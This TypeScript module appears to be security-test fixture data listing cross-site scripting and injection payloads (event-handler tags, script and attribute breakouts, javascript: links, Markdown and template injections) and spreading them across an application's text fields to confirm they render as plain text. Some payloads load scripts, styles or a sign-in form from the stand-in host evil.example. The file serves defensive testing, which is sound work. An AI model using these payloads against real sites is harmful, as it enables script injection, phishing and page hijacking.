/**
 * Texts that would run something, fetch something or change the page wherever a screen took them for more than text. Each fits
 * into 78 letters, which is what names may have. `owned` is known to every page of the browser that watches, and `data-attack`
 * marks what came to be an element.
 */
export const markup = [
  ['an image', '<img data-attack src=x onerror=owned()>'],
  ['a drawing', '<svg data-attack onload=owned()></svg>'],
  ['a script', '</script></title><script data-attack>owned()</script>'],
  ['a frame', '<iframe data-attack srcdoc="<script>top.owned()</script>"></iframe>'],
  ['a field', '<input data-attack autofocus onfocus=owned()>'],
  ['a foreign script', '<script data-attack src=//evil.example/x.js></script>'],
  ['a foreign picture', '<img data-attack src=http://evil.example/x.png>'],
  ['a foreign style', '<link data-attack rel=stylesheet href=//evil.example/x.css>'],
  ['a style', '<style data-attack>body{background:url(//evil.example)}</style>'],
  ['a base', '<base data-attack href=//evil.example/>'],
  ['a jump', '<meta data-attack http-equiv=refresh content=0;//evil.example/>'],
  ['a form', '<form data-attack action=//evil.example><button>Sign in</button></form>'],
  ['the end of an attribute', `" autofocus onfocus=owned() data-attack x="`],
  ['the end of an attribute in single quotes', `' autofocus onfocus=owned() data-attack x='`],
  ['an address', 'javascript:owned()//'],
  ['a link in Markdown', '[x](javascript:owned())<javascript:owned()>'],
  ['a picture in Markdown', '![x](http://evil.example/x.png)'],
  ['a template', '{{constructor.constructor("owned()")()}}${owned()}#{owned()}'],
  ['the words of a translation', '<0 data-attack>{name}</0>{n,plural,other{#}}&lt;b data-attack&gt;'],
] as const;

/** The same for what is read as Markdown. */
const markdown = [
  '[x](javascript:owned())',
  '[x](JaVaScRiPt:owned())',
  '[x](&#106;avascript:owned())',
  '[x](<java\tscript:owned()>)',
  '[x](vbscript:owned())',
  '[x](data:text/html,<script>owned()</script>)',
  '[x][1]\n\n[1]: javascript:owned()',
  '<javascript:owned()>',
  '![x](http://evil.example/x.png)',
  '![x](javascript:owned())',
  '![x][2]\n\n[2]: //evil.example/x.png',
  '[![x](//evil.example/x.png)](javascript:owned())',
  '# <img data-attack src=x onerror=owned()>',
  '| <svg data-attack onload=owned()> |\n| --- |\n| <img data-attack src=x onerror=owned()> |',
  '`</code><script data-attack>owned()</script>`',
  '[^1]\n\n[^1]: <img data-attack src=x onerror=owned()>',
  'http://evil.example/<script data-attack>owned()</script>',
] as const;

/** Stands behind all of a page of documentation: where it is shown, the rest was read. */
export const endOfDocumentation = 'The end of the documentation.';

/** Each text as a paragraph of its own, so that none hides the next. */
export const documentation = (): string =>
  [...markup.map(([, text]) => text), ...markdown, endOfDocumentation].join('\n\n');

/** Where a text is written: a letter at its end tells it from the same text elsewhere. */
export const places = {
  workspace: 'w',
  person: 'p',
  token: 't',
  customer: 'e',
  newFlow: 'f',
  flow: 's',
  node: 'n',
  note: 'o',
  group: 'g',
  versionNote: 'v',
  review: 'r',
  refusal: 'm',
  connection: 'c',
  answer: 'a',
  file: 'i',
  reason: 'u',
  template: 'k',
} as const;
export type Place = keyof typeof places;

/** The texts as they stand at a place. */
export const textsAt = (place: Place): string[] => markup.map(([, text]) => `${text}~${places[place]}`);

/** As many of them as fit into one text. */
export function allAt(place: Place, length = Infinity): string {
  let all = '';
  for (const text of textsAt(place)) if (all.length + text.length < length) all += `${all === '' ? '' : '\n'}${text}`;
  return all;
}
